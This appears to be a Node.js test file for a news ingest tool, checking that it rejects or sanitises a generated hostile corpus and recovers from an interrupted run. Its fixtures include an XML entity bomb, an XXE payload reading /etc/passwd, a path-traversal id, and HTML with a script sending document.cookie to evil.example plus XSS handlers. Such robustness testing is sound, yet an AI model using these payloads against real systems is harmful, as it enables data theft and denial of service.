import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import { ROOT } from '../../scripts/eval/datasets.js';
import { openStore } from '../../src/store/connect.js';
import { corpusArticle } from '../support/corpus.js';
import { sharedSkip } from '../support/shared.js';

/**
 * A hostile corpus, generated here (never committed as binaries): `parley ingest` must name every bad
 * input on one stderr line, store every good one, exit with 1, and stay within a bounded heap.
 */
const dir = mkdtempSync(path.join(tmpdir(), 'parley-hostile-'));
after(() => rmSync(dir, { recursive: true, force: true }));
const corpus = path.join(dir, 'corpus');
mkdirSync(corpus);
const at = (name: string) => path.join(corpus, name);

/** Deterministic pseudo-random bytes (xorshift), so a failure can be reproduced. */
function noise(n: number, seed = 7): Buffer {
  const out = Buffer.alloc(n);
  let s = seed;
  for (let i = 0; i < n; i++) {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    out[i] = s & 0xff;
  }
  return out;
}

const rec = (o: Record<string, unknown>) => JSON.stringify({ published: '2025-12-09', outlet: 'Wire', ...o });
const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
const item = (title: string) => `<item><title>${title}</title><pubDate>Mon, 08 Dec 2025 09:00:00 GMT</pubDate><description>Delegations met in Miami for a third day.</description></item>`;

/** Bad inputs: file (and line) -> what the one stderr line must say. */
const BAD: Array<[string, RegExp]> = [];
/** Good inputs: the ids that must be stored. */
const GOOD: string[] = [];

function build(): void {
  const seed = corpusArticle('seeds', '002_ef670eab73a7393b');
  const seedText = ` date ${seed.published} ${seed.body}`;
  const paragraph = 'Ukrainian President Volodymyr Zelensky said on Tuesday he was ready for elections within 90 days if allies guaranteed security.';

  writeFileSync(at('random.bin'), noise(4096));
  BAD.push(['random.bin', /binary content/]);
  writeFileSync(at('photo.png'), Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.from('IHDR'), noise(200)]));
  BAD.push(['photo.png', /binary content \(PNG image\)/]);
  writeFileSync(at('empty.txt'), '');
  BAD.push(['empty.txt', /empty file/]);
  writeFileSync(at('blank.txt'), ' \n\t\n   \n');
  BAD.push(['blank.txt', /only whitespace/]);
  writeFileSync(at('huge.txt'), Buffer.alloc(50 * 1024 * 1024, 'word '));
  BAD.push(['huge.txt', /over the 16777216-byte limit \(--max-file-bytes\)/]);
  writeFileSync(at('oneline.txt'), ` date 2025-12-09 ${'x'.repeat(10 * 1024 * 1024)}`);
  BAD.push(['oneline.txt', /article text is \d+ bytes, over the 4194304-byte limit/]);
  writeFileSync(at('oneline.jsonl'), `{"published":"2025-12-09","text":"${'y'.repeat(10 * 1024 * 1024)}`);
  BAD.push(['oneline.jsonl:1', /line is \d+ bytes, over the 4194304-byte limit/]);
  writeFileSync(at('latin1.txt'), Buffer.concat([Buffer.from(' date 2025-12-09 Zelensk'), Buffer.from([0xe9, 0xe9]), Buffer.from(' said')]));
  BAD.push(['latin1.txt', /invalid UTF-8 at byte 24/]);
  writeFileSync(at('nul.txt'), Buffer.concat([Buffer.from(` date 2025-12-09 ${paragraph.repeat(80)}`), Buffer.from([0, 0, 0]), Buffer.from('tail')]));
  BAD.push(['nul.txt', /NUL/]);
  writeFileSync(at('nodate.txt'), paragraph);
  BAD.push(['nodate.txt', /no publication date/]);
  writeFileSync(at('deep.html'), `<html><head><meta name="date" content="2025-12-09"></head><body><p>${paragraph}</p>${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}</body></html>`);
  BAD.push(['deep.html', /nested more than 256 elements deep/]);
  writeFileSync(at('bomb.xml'), `<?xml version="1.0"?><!DOCTYPE rss [${lol}]><rss version="2.0"><channel><title>t</title>${item('&lol9;')}</channel></rss>`);
  BAD.push(['bomb.xml', /declares entities/]);
  writeFileSync(at('xxe.rss'), `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>t</title>${item('&xxe;')}</channel></rss>`);
  BAD.push(['xxe.rss', /declares entities/]);

  // JSON Lines with bad lines in the middle: each bad line is one problem, the good lines load.
  writeFileSync(
    at('mixed.jsonl'),
    [
      rec({ id: 'ok-1', text: paragraph }),
      '{"id": "broken", "published": "2025-12-09", "text": "unterminated',
      rec({ id: 'ok-2', text: `${paragraph} Peskov said no call was planned.` }),
      rec({ id: 'types', text: ['not', 'a', 'string'] }),
      rec({ id: '../../etc/passwd', text: 'Witkoff and Kushner flew to Moscow for talks with Putin.' }),
      rec({ id: 'ok-1', text: 'Different content under an id already used.' }),
      rec({ id: 'bad-date', published: '2025-13-45', text: paragraph }),
      rec({ id: 'future', published: '2099-01-01', text: paragraph }),
      '',
      rec({ url: 'https://example.org/world/umerov-miami', title: 'Umerov in Miami', text: 'Umerov led the Ukrainian delegation in Miami.' }),
    ].join('\n'),
  );
  GOOD.push('ok-1', 'ok-2');
  BAD.push(['mixed.jsonl:2', /broken JSON/], ['mixed.jsonl:4', /bad article record: "text"/]);
  GOOD.push('etc-passwd-');
  BAD.push(['mixed.jsonl:6', /id "ok-1" is already stored with different content/]);
  BAD.push(['mixed.jsonl:7', /impossible publication date "2025-13-45"/], ['mixed.jsonl:8', /in the future/]);
  GOOD.push('umerov-miami-');

  writeFileSync(at('list.json'), `[\n${rec({ id: 'arr-1', text: paragraph.replace('Tuesday', 'Monday') })},\n${rec({ id: 'arr-2', published: false, text: 'x' })}\n]`);
  GOOD.push('arr-1');
  BAD.push(['list.json:3', /bad article record: "published"/]);

  // UTF-16 with a BOM is decoded and stored.
  writeFileSync(at('utf16.txt'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(seedText.replace('Kyiv —', 'KYIV —'), 'utf16le')]));
  GOOD.push('utf16');
  copyFileSync(seed.file, at('seed.txt'));
  GOOD.push('seed');

  // HTML with scripts and frames: stored, without the script text.
  writeFileSync(
    at('page.html'),
    `<!doctype html><html><head><title>Talks</title><meta property="article:published_time" content="2025-12-29T10:00:00Z"><script>var stolen = document.cookie; fetch("https://evil.example/?c=" + stolen)</script></head><body><iframe src="https://evil.example/frame"></iframe><article>${corpusArticle('seeds', '000_e0a98c01c69bf2f2').body.split('\n\n').slice(0, 6).map((p) => `<p onclick="alert(1)">${p}</p>`).join('')}<script>alert("xss")</script><img src=x onerror="alert(2)"></article></body></html>`,
  );
  GOOD.push('page');
  writeFileSync(at('feed.xml'), `<?xml version="1.0"?><rss version="2.0"><channel><title>Feed</title>${item('Miami talks, day three')}</channel></rss>`);
  GOOD.push('miami-talks-day-three-');
}

const PARLEY = path.join(ROOT, 'bin', 'parley.js');
const env = { ...process.env, NODE_OPTIONS: '--max-old-space-size=384', PARLEY_DB: '' };

test('a hostile corpus: one stderr line per bad input, every good input stored, exit code 1', { skip: sharedSkip, timeout: 180_000 }, async () => {
  build();
  const db = path.join(dir, 'hostile.db');
  const run = spawnSync(process.execPath, [PARLEY, 'ingest', corpus, '--db', db], { encoding: 'utf8', env, timeout: 150_000 });
  assert.equal(run.status, 1, `exit ${run.status} ${run.signal ?? ''}\n${run.stderr}`);
  const lines = run.stderr.trim().split('\n').filter(Boolean);
  for (const [where, reason] of BAD) {
    const mine = lines.filter((l) => l.startsWith(`parley: ${at(where)}: `));
    assert.equal(mine.length, 1, `${where}: ${mine.length} lines\n${run.stderr}`);
    assert.match(mine[0]!, reason, where);
  }
  assert.equal(lines.length, BAD.length, `unexpected stderr lines:\n${run.stderr}`);

  const store = await openStore(db);
  try {
    const docs = await store.db.selectFrom('documents').select(['id', 'text', 'raw_text', 'format']).execute();
    const ids = docs.map((d) => d.id);
    for (const good of GOOD) assert.equal(ids.filter((id) => id === good || (good.endsWith('-') && id.startsWith(good))).length, 1, `${good} not stored once: ${ids.join(', ')}`);
    assert.equal(docs.length, GOOD.length);
    const page = docs.find((d) => d.id === 'page')!;
    for (const evil of ['cookie', 'evil.example', 'alert', 'onclick']) assert.ok(!page.raw_text.includes(evil), evil);
    assert.ok(page.text.includes('Ukrainian President Volodymyr Zelensky has said negotiators are wrestling'));
    assert.ok(docs.find((d) => d.id === 'utf16')!.text.includes('KYIV — Russia and Ukraine on Monday remained far apart'));
  } finally {
    await store.close();
  }
  assert.match(run.stdout, new RegExp(`^${GOOD.length} added, 0 already stored, ${BAD.length} failed`));

  // Running again adds and duplicates nothing.
  const again = spawnSync(process.execPath, [PARLEY, 'ingest', corpus, '--db', db, '--quiet'], { encoding: 'utf8', env, timeout: 150_000 });
  assert.equal(again.status, 1);
  const store2 = await openStore(db);
  try {
    const n = await store2.db.selectFrom('documents').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    assert.equal(Number(n.n), GOOD.length);
  } finally {
    await store2.close();
  }
});

test('an ingest killed midway loses and duplicates nothing when run again', { skip: sharedSkip, timeout: 180_000 }, async () => {
  const many = path.join(dir, 'many');
  mkdirSync(many);
  const body = corpusArticle('seeds', '003_e39ae9d87a1223f6').body;
  const lines = Array.from({ length: 300 }, (_, i) => rec({ id: `a${String(i).padStart(3, '0')}`, text: `Dispatch ${i}. ${body}` }));
  writeFileSync(path.join(many, 'batch.jsonl'), lines.join('\n'));
  const db = path.join(dir, 'killed.db');
  const child = spawn(process.execPath, [PARLEY, 'ingest', many, '--db', db, '--quiet'], { env, stdio: 'ignore' });
  // Kill it once some documents are in: poll the database.
  const started = Date.now();
  let stored = 0;
  while (Date.now() - started < 60_000 && child.exitCode === null) {
    await new Promise((r) => setTimeout(r, 50));
    const check = spawnSync('sqlite3', [db, 'select count(*) from documents'], { encoding: 'utf8' });
    stored = check.status === 0 ? Number(check.stdout.trim()) || 0 : await countWithKysely(db);
    if (stored >= 1) break;
  }
  child.kill('SIGKILL');
  await new Promise((r) => child.once('exit', r));
  assert.ok(stored < lines.length, 'the ingest finished before it could be interrupted');

  const rerun = spawnSync(process.execPath, [PARLEY, 'ingest', many, '--db', db, '--quiet'], { encoding: 'utf8', env, timeout: 150_000 });
  assert.equal(rerun.status, 0, rerun.stderr);
  const store = await openStore(db);
  try {
    const ids = (await store.db.selectFrom('documents').select('id').orderBy('id').execute()).map((d) => d.id);
    assert.deepEqual(ids, lines.map((_, i) => `a${String(i).padStart(3, '0')}`));
    // No half-stored document: each has its band keys, and the stories count every document once.
    const banded = await store.db.selectFrom('lsh_bands').select('document_id').distinct().execute();
    assert.equal(banded.length, lines.length);
    const stories = await store.db.selectFrom('stories').select((eb) => eb.fn.sum<number>('document_count').as('n')).executeTakeFirstOrThrow();
    assert.equal(Number(stories.n), lines.length);
  } finally {
    await store.close();
  }
});

async function countWithKysely(db: string): Promise<number> {
  try {
    const store = await openStore(db);
    try {
      const n = await store.db.selectFrom('documents').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
      return Number(n.n);
    } finally {
      await store.close();
    }
  } catch {
    return 0;
  }
}
